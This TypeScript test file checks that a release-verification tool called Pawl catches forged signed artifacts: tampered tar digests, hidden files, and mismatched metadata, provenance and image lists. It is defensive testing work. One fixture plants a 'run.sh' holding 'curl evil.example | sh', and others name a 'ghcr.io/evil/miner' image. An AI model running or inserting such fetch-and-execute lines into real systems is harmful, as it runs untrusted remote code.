import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { packEnvironment } from '../../lib/artifact/pack-environment.ts';
import { readRelease } from '../../lib/artifact/read.ts';
import { attachStatement } from '../../lib/artifact/signatures/attach.ts';
import { signManifest } from '../../lib/artifact/signatures/sign.ts';
import { parseImageManifest } from '../../lib/artifact/wire-format.ts';
import { digestOf } from '../../lib/digest.ts';
import type { Json, JsonObject } from '../../lib/json.ts';
import { canonicalSet } from '../../lib/manifest/canonical.ts';
import { readCurrent } from '../../lib/promotion/ledger.ts';
import { predicateTypes } from '../../lib/signing/statement.ts';
import { writeRecord } from '../promotion/ledger-samples.ts';
import { environment, type Forgery, forge, promoter, publisher, signedShop, version, write } from './forged-shop.ts';

const claims = {
  bytes: 'Every byte is what the index names',
  packing: 'It holds its objects in canonical bytes, and nothing else',
  metadata: 'What it says of itself is what is in it',
  provenance: 'Its provenance agrees with it',
  images: 'Its list of images is that of its objects',
  part: 'It is part of the release that the record names',
} as const;

const text = (value: string) => new TextEncoder().encode(value);
const otherCommit = '0'.repeat(40);
const otherImages = { environments: { [environment]: [{ image: 'ghcr.io/evil/miner:1' }] } };

/** The predicate with another value at the end of a path. */
function withAt(value: Json | undefined, [key, ...rest]: readonly string[], leaf: Json): Json {
  if (key === undefined) return leaf;
  if (Array.isArray(value)) return value.map((item, at) => (String(at) === key ? withAt(item, rest, leaf) : item));
  const fields = value as JsonObject;
  return { ...fields, [key]: withAt(fields[key], rest, leaf) };
}
const parameter = (name: string, leaf: Json) => (predicate: JsonObject) =>
  withAt(predicate, ['buildDefinition', 'externalParameters', name], leaf);

const forgeries: Readonly<Record<string, { readonly forgery: Forgery; readonly claim: string; readonly detail: RegExp }>> = {
  'a tar that is not what its manifest says': {
    forgery: { tarDigest: digestOf('another tar') },
    claim: claims.bytes,
    detail: /^Cannot pull "sha256:.*: its tar has digest sha256:[0-9a-f]{64}, expected sha256:/,
  },
  'a file that hides in a layer': {
    forgery: { files: (files) => files.set('run.sh', text('curl evil.example | sh\n')) },
    claim: claims.packing,
    detail: /^Beside its objects it holds "run\.sh"$/,
  },
  'a manifest without objects that hides in a layer': {
    forgery: { files: (files) => ['a', 'b', 'c', 'd'].map((name) => files.set(`${name}.yaml`, text('# nothing\n'))) },
    claim: claims.packing,
    detail: /^Beside its objects it holds "a\.yaml", "b\.yaml", "c\.yaml" and 1 more$/,
  },
  'the same application in another form': {
    forgery: { files: (files) => files.set('settings.json', text('#!/bin/sh\n')).set('settings.yml', text('# nothing\n')) },
    claim: claims.packing,
    detail: /^Beside its objects it holds "settings\.json", "settings\.yml"$/,
  },
  'metadata of another version': {
    forgery: { metadata: (said) => ({ ...said, version: '2.0.0' }) },
    claim: claims.metadata,
    detail: /^Its metadata is of 2\.0\.0, revision 1\.0\.0@sha1:/,
  },
  'metadata of another commit': {
    forgery: { metadata: (said) => ({ ...said, revision: `1.0.0@sha1:${otherCommit}` }) },
    claim: claims.metadata,
    detail: /^Its metadata is of 1\.0\.0, revision 1\.0\.0@sha1:0{40}$/,
  },
  'metadata of other environments': {
    forgery: { metadata: (said) => ({ ...said, environments: { [environment]: (said.environments as JsonObject)[environment] ?? null } }) },
    claim: claims.metadata,
    detail: /^Its metadata names the environments development, the index has development, production, staging$/,
  },
  'metadata with other images': {
    forgery: { metadata: (said) => withAt(said, ['environments', environment, 'images'], [{ image: 'ghcr.io/evil/miner:1' }]) },
    claim: claims.metadata,
    detail: /^Its metadata names other applications or images for development than its objects do$/,
  },
  'provenance of another version': {
    forgery: { provenance: parameter('version', '2.0.0') },
    claim: claims.provenance,
    detail: /^It is of version 2\.0\.0 \(statement sha256:[0-9a-f]{64} by /,
  },
  'provenance of another commit': {
    forgery: {
      provenance: (said) => withAt(said, ['buildDefinition', 'resolvedDependencies', '0', 'digest', 'gitCommit'], otherCommit),
    },
    claim: claims.provenance,
    detail: /^It names commit 0{40}, the release revision 1\.0\.0@sha1:/,
  },
  'provenance without a commit': {
    forgery: { provenance: (said) => withAt(said, ['buildDefinition', 'resolvedDependencies'], []) },
    claim: claims.provenance,
    detail: /^It names commit none, the release revision /,
  },
  'provenance of another source': {
    forgery: { provenance: parameter('source', 'https://github.com/evil/shop') },
    claim: claims.provenance,
    detail: /^It names the source https:\/\/github\.com\/evil\/shop, the project https:\/\/github\.com\/acme\/shop /,
  },
  'provenance that is none': {
    forgery: { provenance: () => ({ buildDefinition: {} }) },
    claim: claims.provenance,
    detail: /^What \S+ stated is no provenance that Pawl can read /,
  },
  'a list of other images': {
    forgery: { images: () => otherImages },
    claim: claims.images,
    detail: /^What \S+ stated names other images than its objects do \(statement sha256:/,
  },
};

test('pawl verify fails for each forgery of whoever has the key of the publisher, and says what is wrong', async (t) => {
  const shop = await signedShop(t);
  const real = await shop.copy();
  assert.deepEqual(await failuresOf(real), []);
  const same = await shop.copy();
  await forge(same.release, {});
  assert.deepEqual(await failuresOf(same), [], 'what is signed again is no forgery');
  for (const [name, { forgery, claim, detail }] of Object.entries(forgeries))
    await t.test(name, async () => {
      const registry = await shop.copy();
      await forge(registry.release, forgery);
      const failures = await failuresOf(registry);
      assert.deepEqual(
        failures.map((one) => one.claim),
        [claim],
        JSON.stringify(failures),
      );
      assert.match(failures[0]?.detail ?? '', detail);
    });
});

test('pawl verify leaves open whether another version of Pawl packed what holds nothing but its objects', async (t) => {
  const registry = await (await signedShop(t)).copy();
  await forge(registry.release, {
    files: (files) => {
      for (const [name, bytes] of files) files.set(name, Buffer.concat([bytes, text('# a comment\n')]));
    },
  });
  const { code, proofs } = await registry.verify();
  assert.equal(code, 0);
  assert.match(proofs.find(({ claim, result }) => claim === claims.packing && result === 'open')?.detail ?? '', /^Packed again by this/);
});

test('pawl verify fails where a layer was changed in the registry', async (t) => {
  const registry = await (await signedShop(t)).copy();
  const { environments } = await readRelease(registry.release, version);
  const manifest = (await registry.release.readManifest(environments.get(environment)?.digest ?? '')) ?? assert.fail();
  const layer = parseImageManifest(manifest, 'it').layers[0]?.digest ?? assert.fail();
  const file = join(registry.folder, 'shop', 'blobs', 'sha256', layer.slice('sha256:'.length));
  const bytes = await readFile(file);
  bytes[bytes.length - 3] = (bytes.at(-3) ?? 0) ^ 1;
  await writeFile(file, bytes);
  const failures = await failuresOf(registry);
  assert.ok(
    failures.some(({ claim, detail }) => claim === claims.bytes && detail.includes(layer)),
    JSON.stringify(failures),
  );
});

test('pawl verify names every statement of a publisher that contradicts the release, beside those that do not', async (t) => {
  const shop = await signedShop(t);
  for (const [predicateType, predicate, claim] of [
    [predicateTypes.images, otherImages, claims.images],
    [predicateTypes.provenance, {}, claims.provenance],
  ] as const) {
    const registry = await shop.copy();
    const { digest } = await readRelease(registry.release, version);
    const subject = (await registry.release.resolve(digest)) ?? assert.fail();
    const attached = await attachStatement(registry.release, subject, { signer: publisher, predicateType, predicate });
    const [failure, ...others] = await failuresOf(registry);
    assert.deepEqual([failure?.claim, others], [claim, []]);
    assert.ok(failure?.detail.includes(`(statement ${attached.digest} by `), failure?.detail);
    const ofStranger = await shop.copy();
    await attachStatement(ofStranger.release, subject, { signer: promoter, predicateType, predicate });
    assert.deepEqual(await failuresOf(ofStranger), [], 'what nobody trusted states counts for nothing');
  }
});

const ofActions = {
  buildDefinition: {
    buildType: 'https://actions.github.io/buildtypes/workflow/v1',
    externalParameters: {
      workflow: { ref: 'refs/heads/main', repository: 'https://github.com/acme/shop', path: '.github/workflows/r.yml' },
    },
    resolvedDependencies: [{ uri: 'git+https://github.com/acme/shop@refs/heads/main', digest: { gitCommit: otherCommit } }],
  },
  runDetails: { builder: { id: 'https://github.com/actions/runner' } },
};

test('pawl verify leaves out what the same publisher states of another kind of build', async (t) => {
  const shop = await signedShop(t);
  const registry = await shop.copy();
  const { digest } = await readRelease(registry.release, version);
  const subject = (await registry.release.resolve(digest)) ?? assert.fail();
  await attachStatement(registry.release, subject, { signer: publisher, predicateType: predicateTypes.provenance, predicate: ofActions });
  const { code, proofs } = await registry.verify();
  const provenance = proofs.find(({ claim }) => claim === claims.provenance);
  assert.deepEqual([code, provenance?.result], [0, 'proved'], provenance?.detail);

  const alone = await shop.copy();
  await forge(alone.release, { provenance: () => ofActions });
  const { code: without, proofs: left } = await alone.verify();
  const open = left.find(({ claim }) => claim === claims.provenance);
  assert.deepEqual([without, open?.result, open?.detail], [0, 'open', 'There is none that Pawl made'], JSON.stringify(left));
});

test('pawl verify fails for an environment that is at what its release does not have', async (t) => {
  const { ledger, release, verify } = await (await signedShop(t)).copy();
  const { digest, created, revision } = await readRelease(release, version);
  const object = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'settings' }, data: { text: 'forged' } };
  const { set } = canonicalSet(environment, [{ application: 'settings', wave: 0, object }]);
  const other = await packEnvironment(set, { version, created, revision });
  await write(ledger, other);
  await signManifest(ledger, other.descriptor, publisher);
  const head = (await readCurrent(ledger)) ?? assert.fail();
  const { previous: _, sequence: __, ...said } = head.record;
  const record = await writeRecord(ledger, head, { ...said, to: { version, index: digest, manifest: other.descriptor.digest } });
  await signManifest(ledger, (await ledger.resolve(record.digest)) ?? assert.fail(), promoter);
  const { code, proofs } = await verify(environment);
  assert.equal(code, 1);
  const failed = proofs.filter(({ result, claim }) => result === 'failed' && !claim.startsWith('Tag '));
  const listed = (await readRelease(release, version)).environments.get(environment)?.digest;
  assert.deepEqual(
    failed.map(({ claim, detail }) => [claim, detail]),
    [[claims.part, `Index ${digest} lists ${listed} for ${environment}`]],
  );
});

async function failuresOf(registry: Awaited<ReturnType<Awaited<ReturnType<typeof signedShop>>['copy']>>) {
  const { code, outcome, proofs } = await registry.verify();
  const failures = proofs.filter(({ result }) => result === 'failed');
  assert.deepEqual([code, outcome === 'failed'], failures.length === 0 ? [0, false] : [1, true]);
  return failures;
}
